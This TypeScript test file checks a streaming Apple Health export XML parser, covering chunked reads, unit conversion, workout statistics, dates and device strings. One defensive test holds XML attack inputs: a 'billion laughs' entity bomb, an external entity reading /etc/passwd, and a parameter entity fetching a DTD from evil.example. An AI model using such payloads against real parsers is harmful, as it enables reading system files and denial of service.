import { Readable } from "node:stream";
import { describe, expect, it } from "vitest";
import { appleExportXml } from "../testing/appleExport.ts";
import { parseAppleDate } from "./appleDates.ts";
import { parseHkDevice, sourceIdentity } from "./appleHealthImport.ts";
import { AppleExportError, type AppleHealthItem, readAppleHealthXml } from "./appleHealthXml.ts";
import { convertRecordValue, MAPPED_RECORD_TYPES, recordMapping } from "./appleTypes.ts";
import { appleWorkoutDetails } from "./appleWorkouts.ts";

/** The text in chunks of `size` bytes, so elements and multibyte characters straddle chunk boundaries. */
const chunked = (text: string, size = 7): AsyncIterable<Uint8Array> => {
  const bytes = Buffer.from(text);
  const parts: Uint8Array[] = [];
  for (let i = 0; i < bytes.length; i += size) parts.push(bytes.subarray(i, i + size));
  return Readable.from(parts);
};

const readAll = async (text: string, size?: number) => {
  const items: AppleHealthItem[] = [];
  for await (const item of readAppleHealthXml(chunked(text, size))) items.push(item);
  return items;
};

const minimal = (body: string, doctype = "") =>
  `<?xml version="1.0" encoding="UTF-8"?>\n${doctype}<HealthData locale="en_US">\n${body}</HealthData>\n`;

describe("readAppleHealthXml", () => {
  it("yields every top-level element kind, once, whatever the chunking", async () => {
    const xml = appleExportXml();
    const items = await readAll(xml, 13);
    const kinds = new Map<string, number>();
    for (const i of items) kinds.set(i.kind, (kinds.get(i.kind) ?? 0) + 1);
    expect(kinds.get("me")).toBe(1);
    expect(kinds.get("correlation")).toBe(1);
    expect(kinds.get("workout")).toBe(2);
    expect(kinds.get("activitySummary")).toBe(2);
    expect(kinds.get("other")).toBe(2); // ExportDate, ClinicalRecord
    // The correlation's two inner records are not yielded; the top-level copies are.
    const bp = items.filter((i) => i.kind === "record" && i.attributes.sourceName === "Omron");
    expect(bp).toHaveLength(2);
    const run = items.find((i) => i.kind === "workout");
    expect(
      run?.kind === "workout" && run.statistics.map((s) => s.type?.replace("HKQuantityTypeIdentifier", "")),
    ).toEqual([
      "HeartRate",
      "ActiveEnergyBurned",
      "DistanceWalkingRunning",
      "StepCount",
      "RunningSpeed",
      "RunningPower",
    ]);
    expect(await readAll(xml, 1 << 20)).toEqual(items);
  });

  it("accepts Apple's DTD and refuses entity declarations (billion laughs, external entities)", async () => {
    const laughs = `<!DOCTYPE HealthData [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>\n`;
    await expect(readAll(minimal(`<Record type="x" value="&b;"/>\n`, laughs))).rejects.toThrow(/entit/);
    const external = `<!DOCTYPE HealthData [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n`;
    await expect(readAll(minimal(`<Record type="x" value="&x;"/>\n`, external))).rejects.toThrow(AppleExportError);
    const parameter = `<!DOCTYPE HealthData [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>\n`;
    await expect(readAll(minimal("", parameter))).rejects.toThrow(/entit/);
    // An entity referenced without a declaration is not expanded either.
    await expect(readAll(minimal(`<Record type="x" value="&undeclared;"/>\n`))).rejects.toThrow(AppleExportError);
  });

  it("refuses truncated, malformed and foreign files", async () => {
    const xml = appleExportXml();
    await expect(readAll(xml.slice(0, Math.floor(xml.length / 2)))).rejects.toThrow(/truncated|ends before/);
    await expect(readAll(xml.slice(0, xml.lastIndexOf("</HealthData>")))).rejects.toThrow(/ends before/);
    await expect(readAll(minimal('<Record type="x" value="1">\n'))).rejects.toThrow(AppleExportError);
    await expect(readAll("<gpx></gpx>")).rejects.toThrow(/not <HealthData>/);
    await expect(readAll("")).rejects.toThrow(AppleExportError);
    await expect(readAll("hello")).rejects.toThrow(AppleExportError);
  });

  it("refuses a token longer than the limit instead of buffering it", async () => {
    const huge = `<Record type="x" value="${"9".repeat(200_000)}"/>`;
    const run = async () => {
      for await (const _ of readAppleHealthXml(chunked(minimal(huge), 4096), { maxTokenBytes: 64 * 1024 })) {
        // drain
      }
    };
    await expect(run()).rejects.toThrow(/token too long/);
  });
});

describe("Apple units", () => {
  it("maps every anchor type and converts units to the stored unit", () => {
    expect(MAPPED_RECORD_TYPES.length).toBeGreaterThanOrEqual(80);
    const convert = (type: string, value: number, unit: string) =>
      convertRecordValue(
        recordMapping(`HKQuantityTypeIdentifier${type}`) as NonNullable<ReturnType<typeof recordMapping>>,
        value,
        unit,
      );
    expect(convert("BodyMass", 154.3236, "lb")).toBeCloseTo(70, 3);
    expect(convert("BodyTemperature", 98.6, "degF")).toBeCloseTo(37, 6);
    expect(convert("DistanceWalkingRunning", 1, "mi")).toBeCloseTo(1609.344, 6);
    expect(convert("DistanceWalkingRunning", 1.5, "km")).toBe(1500);
    expect(convert("ActiveEnergyBurned", 418.4, "kJ")).toBeCloseTo(100, 6);
    expect(convert("HeartRate", 1, "count/s")).toBe(60);
    expect(convert("OxygenSaturation", 0.97, "%")).toBeCloseTo(97, 6);
    expect(convert("Height", 1.8, "m")).toBeCloseTo(180, 6);
    expect(convert("BloodGlucose", 5, "mmol<180.1558800000541>/L")).toBeCloseTo(90.078, 3);
    expect(convert("WalkingSpeed", 3.6, "km/hr")).toBeCloseTo(1, 6);
    expect(convert("DietaryWater", 0.25, "L")).toBe(250);
    expect(() => convert("BodyMass", 70, "degC")).toThrow(/unit "degC" of a weight record cannot be converted to kg/);
    expect(() => convert("HeartRate", 60, "")).toThrow(/cannot be converted to bpm/);
  });

  it("reads workout statistics in their units", () => {
    const d = appleWorkoutDetails(
      { totalDistance: "5", totalDistanceUnit: "km" },
      [
        {
          type: "HKQuantityTypeIdentifierHeartRate",
          average: "150.5",
          minimum: "110",
          maximum: "178",
          unit: "count/min",
        },
        { type: "HKQuantityTypeIdentifierActiveEnergyBurned", sum: "418.4", unit: "kJ" },
        { type: "HKQuantityTypeIdentifierRunningSpeed", average: "10.8", maximum: "14.4", unit: "km/hr" },
      ],
      1,
    );
    expect(d).toMatchObject({ heartRateMin: 110, heartRateMax: 178, heartRateAvg: 150.5, distance: 5000 });
    expect(d.energyBurned).toBeCloseTo(100, 6);
    expect(d.averageSpeed).toBeCloseTo(3, 6);
    expect(() =>
      appleWorkoutDetails({}, [{ type: "HKQuantityTypeIdentifierActiveEnergyBurned", sum: "1", unit: "lb" }], 9),
    ).toThrow(/line 9/);
  });
});

describe("dates and devices", () => {
  it("parses Apple dates with their zone offset", () => {
    expect(parseAppleDate("2026-03-01 09:00:00 +0100")).toEqual({ ms: Date.UTC(2026, 2, 1, 8), offsetMinutes: 60 });
    expect(parseAppleDate("2026-03-01 09:00:00 -0530")).toEqual({
      ms: Date.UTC(2026, 2, 1, 14, 30),
      offsetMinutes: -330,
    });
    expect(parseAppleDate("2026-03-01T09:00:00Z")).toBeUndefined();
  });

  it("takes the model from the HKDevice string", () => {
    const device =
      "<<HKDevice: 0x2816a1f40>, name:Apple Watch, manufacturer:Apple Inc., model:Watch, hardware:Watch6,12, software:10.2, creation date:2026-01-01>";
    expect(parseHkDevice(device)).toMatchObject({ name: "Apple Watch", model: "Watch", hardware: "Watch6,12" });
    expect(sourceIdentity({ device, sourceName: "Ada's Apple Watch", sourceVersion: "10.2" })).toEqual({
      provider: "apple",
      source: "Ada's Apple Watch",
      deviceModel: "Watch6,12",
      softwareVersion: "10.2",
      deviceType: "watch",
      originalSourceName: "Ada's Apple Watch",
    });
    expect(sourceIdentity({ sourceName: "Strava" })).toMatchObject({ deviceModel: null, deviceType: null });
  });
});
